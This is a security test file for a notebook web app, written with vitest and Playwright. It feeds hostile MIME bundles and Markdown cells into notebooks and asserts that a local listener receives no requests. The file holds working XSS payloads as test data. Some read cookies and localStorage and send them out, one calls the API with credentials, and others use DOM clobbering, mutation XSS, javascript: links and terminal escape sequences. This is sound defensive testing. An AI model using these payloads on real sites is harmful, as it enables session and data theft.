import { once } from "node:events";
import { createServer } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { importCells } from "./lib/ipynb.js";
import { eventually, NotebookPage } from "./lib/notebook.js";
import { world } from "./lib/world.js";

const { user, open, server } = world();

/** The requests that reached the listener, to which all hostile outputs try to send. */
const reached: string[] = [];
const listener = createServer((request, answer) => {
  reached.push(`${request.method ?? ""} ${request.url ?? ""}`);
  answer.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("<h1>Sign in to Quire</h1>");
});
let outside = "";
const title = "<img src=x onerror=top.owned=1>";

beforeAll(async () => {
  listener.listen(0, "127.0.0.1");
  await once(listener, "listening");
  const address = listener.address();
  outside = address !== null && typeof address === "object" ? `http://127.0.0.1:${address.port}` : "";
});
afterAll(() => void listener.close());

/** Hostile MIME bundles. OUT stands for the listener, APP for the application. */
const hostile: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "a script that writes to the page above": {
    "text/html": "<script>try { parent.document.title = 'owned'; top.owned = 1 } catch (e) { document.body.append('kept out') }</script>",
  },
  "a script that reads cookies and storage": {
    "text/html":
      "<script>let got = ''; try { got += document.cookie } catch {} try { got += JSON.stringify(localStorage) } catch {} new Image().src = 'OUT/cookies?' + encodeURIComponent(got)</script>",
  },
  "a script that asks the API": {
    "text/html":
      "<script>fetch('APP/api/notebooks', {credentials: 'include'}).then(r => r.text()).then(t => fetch('OUT/api?' + t)).catch(() => {}); fetch('OUT/fetch').catch(() => {})</script>",
  },
  "an image of another host": { "text/html": "<img src='OUT/image'><img src=x onerror=\"new Image().src='OUT/onerror'\">" },
  "a frame that goes elsewhere": { "text/html": "<script>location.href = 'OUT/location'</script>" },
  "a refresh that goes elsewhere": { "text/html": "<meta http-equiv='refresh' content='0;url=OUT/refresh'>" },
  "a script that moves the page": {
    "text/html": "<script>try { top.location = 'OUT/top' } catch {} try { parent.location.replace('OUT/parent') } catch {}</script>",
  },
  "a window that opens": {
    "text/html": "<script>open('OUT/open')</script><a id=a href='OUT/link' target=_blank>x</a><script>document.getElementById('a').click()</script>",
  },
  "a form that posts": { "text/html": "<form id=f action='OUT/form' method=post><input name=a value=b></form><script>f.submit()</script>" },
  "a form that posts to the application": { "text/html": "<form id=g action='APP/api/logout' method=post></form><script>g.submit()</script>" },
  "a frame within": { "text/html": "<iframe src='OUT/frame'></iframe><object data='OUT/object'></object><embed src='OUT/embed'>" },
  "a style that reaches out": {
    "text/html":
      "<style>@import 'OUT/import'; body { background: url(OUT/background) }</style><link rel=stylesheet href='OUT/sheet'><link rel=prefetch href='OUT/prefetch'>",
  },
  "a socket": {
    "text/html":
      "<script>try { new WebSocket('OUT/socket'.replace('http', 'ws')) } catch {} try { navigator.sendBeacon('OUT/beacon', 'x') } catch {} try { new EventSource('OUT/events') } catch {}</script>",
  },
  "a worker": { "text/html": "<script>try { new Worker(URL.createObjectURL(new Blob([\"fetch('OUT/worker')\"]))) } catch {}</script>" },
  "a peer connection": { "text/html": "<script>try { new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}).createOffer() } catch {}</script>" },
  "messages to the application": {
    "text/html":
      "<script>for (const m of [{kind: 'link', href: 'javascript:top.owned=1'}, {kind: 'height', height: 1e9}, {kind: 'command'}, 'x', null]) parent.postMessage(m, '*')</script>",
  },
  "an SVG with a script": {
    "image/svg+xml":
      "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10' onload=\"fetch('OUT/svg')\"><script>fetch('OUT/svgscript')</script><image href='OUT/svgimage'/></svg>",
  },
  "Markdown with active parts": {
    "text/markdown":
      "<script>fetch('OUT/md')</script> <img src=x onerror=\"fetch('OUT/mdimg')\"> ![x](OUT/mdimage) [x](javascript:fetch('OUT/mdlink')) <iframe src='OUT/mdframe'></iframe> <style>*{background:url(OUT/mdstyle)}</style> <form action='OUT/mdform'><button>x</button></form> <math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('OUT/mutation')&gt;\">",
  },
  JavaScript: { "application/javascript": "fetch('OUT/js'); try { top.owned = 1 } catch {}" },
  LaTeX: { "text/latex": "$\\href{javascript:fetch('OUT/latex')}{x} \\includegraphics{OUT/latexgraphics}$" },
};

const names = Object.keys(hostile);

/** Hostile cells of a Jupyter file that the page itself renders, outside a frame. */
const shown: Readonly<Record<string, object>> = {
  "a Markdown cell with active parts": { cell_type: "markdown", source: hostile["Markdown with active parts"]?.["text/markdown"] },
  "a Markdown cell that takes the names of what the page uses": {
    cell_type: "markdown",
    source:
      "<form id='root' name='body'><input name='attributes'><input name='parentNode'></form><a id='main' name='getElementById' href='OUT/clobber'></a><img name='currentScript' src='OUT/clobberimage'> **here**",
  },
  "a Markdown cell that poses as the page": {
    cell_type: "markdown",
    source:
      "<div data-cell='c' data-group='cell' data-action='delete' role='alert' style='position: fixed; inset: 0; z-index: 9999; background: url(OUT/style)'>Sign in</div>\n\n**here**",
  },
  "a picture that is attached and active": {
    cell_type: "markdown",
    source: "![x](attachment:x.svg) **here**",
    attachments: {
      "x.svg": {
        "image/svg+xml": btoa("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='top.owned=1'><script>top.owned=1</script></svg>"),
      },
    },
  },
  "an error": {
    cell_type: "code",
    outputs: [
      {
        output_type: "error",
        ename: "<img src=OUT/ename>",
        evalue: "<script>fetch('OUT/evalue')</script>",
        traceback: ["\u001b[31m<img src=x onerror=\"fetch('OUT/trace')\">", "\u001b]8;;javascript:top.owned=1\u0007link\u001b]8;;\u0007"],
      },
    ],
  },
  "printed text": {
    cell_type: "code",
    outputs: [
      {
        output_type: "stream",
        name: "stdout",
        text: "<img src=OUT/printed> \u001b]8;;javascript:top.owned=1\u0007link\u001b]8;;\u0007 \u001b]52;c;b3duZWQ=\u0007 javascript:top.owned=1 \u001b]0;owned\u0007\n",
      },
    ],
  },
};

/** Imports a notebook with one cell, and with a title, metadata and names that are hostile too; returns its id. */
async function importHostile(cell: object): Promise<string> {
  const text = JSON.stringify({ metadata: { "<img src=x onerror=alert(1)>": 1 }, ...cell });
  const addressed: object = JSON.parse(text.replaceAll("OUT", outside).replaceAll("APP", server().url));
  return importCells(server(), [addressed], { title, metadata: { title: "<img src=x onerror=alert(1)>" } });
}

/** Waits until the content has run, and fails if it had any effect outside its place. */
async function nothingHappened(page: Page, before: string): Promise<void> {
  // Time for frames to load, for scripts to run and for requests to arrive.
  await page.waitForTimeout(1_500);
  expect(reached).toEqual([]);
  expect(page.url()).toBe(before);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(() => "owned" in globalThis)).toBe(false);
  expect(await page.title()).not.toBe("owned");
  const me = await page.evaluate(() => fetch("/api/me", { headers: { "Quire-Key": localStorage.getItem("quire.key") ?? "" } }).then((answer) => answer.status));
  expect(me, "still signed in").toBe(200);
}

test("control: the listener receives requests of a page without a policy", async () => {
  reached.length = 0;
  const page = await (await user()).page();
  await page.goto(outside);
  await page.setContent(`<img src="${outside}/control">`);
  await expect.poll(() => reached).toContain("GET /control");
});

test.each(names)("%s reaches nothing", async (name) => {
  reached.length = 0;
  const bundle = hostile[name];
  if (!bundle) throw new Error("no such case");
  const id = await importHostile({ cell_type: "code", outputs: [{ output_type: "display_data", metadata: {}, data: bundle }] });
  const ada = await user({ ignoreHTTPSErrors: false });
  const hers = await open(ada, id);
  const before = hers.page.url();
  if ("text/html" in bundle || "application/javascript" in bundle) await hers.page.locator("iframe").first().waitFor();
  else await hers.cell(1).locator("[data-output] :is(img, p, .katex)").first().waitFor({ state: "attached" });
  await nothingHappened(hers.page, before);
  ada.faults.length = 0; // reports of the content security policy are expected here
});

test.each(Object.keys(shown))("%s is shown without effect on the page", async (name) => {
  reached.length = 0;
  const cell = shown[name];
  if (!cell) throw new Error("no such case");
  const ada = await user();
  const page = await ada.page();
  await page.goto(`${server().url}/nb/${await importHostile(cell)}`);
  const hers = new NotebookPage(page);
  await hers.saved();
  await hers
    .cell(1)
    .getByText(/here|link|x/)
    .first()
    .waitFor();
  const before = page.url();
  const links = await hers
    .cell(1)
    .locator("[href]")
    .evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
  expect(links.filter((link) => !link.startsWith("http://"))).toEqual([]); // no scheme that runs a script
  await nothingHappened(page, before);
  expect(await page.evaluate(() => document.elementFromPoint(innerWidth / 2, 20)?.closest("header") !== null), "nothing covers the page").toBe(true);
  await page.getByRole("button", { name: "Code" }).last().click();
  await eventually(
    () => hers.count(),
    (count) => count === 2,
    "the page goes on",
  );
  await page.goto(server().url);
  await page.getByText(title).first().waitFor();
  expect(await page.evaluate(() => "owned" in globalThis)).toBe(false);
  ada.faults.length = 0; // reports of the content security policy are expected here
});
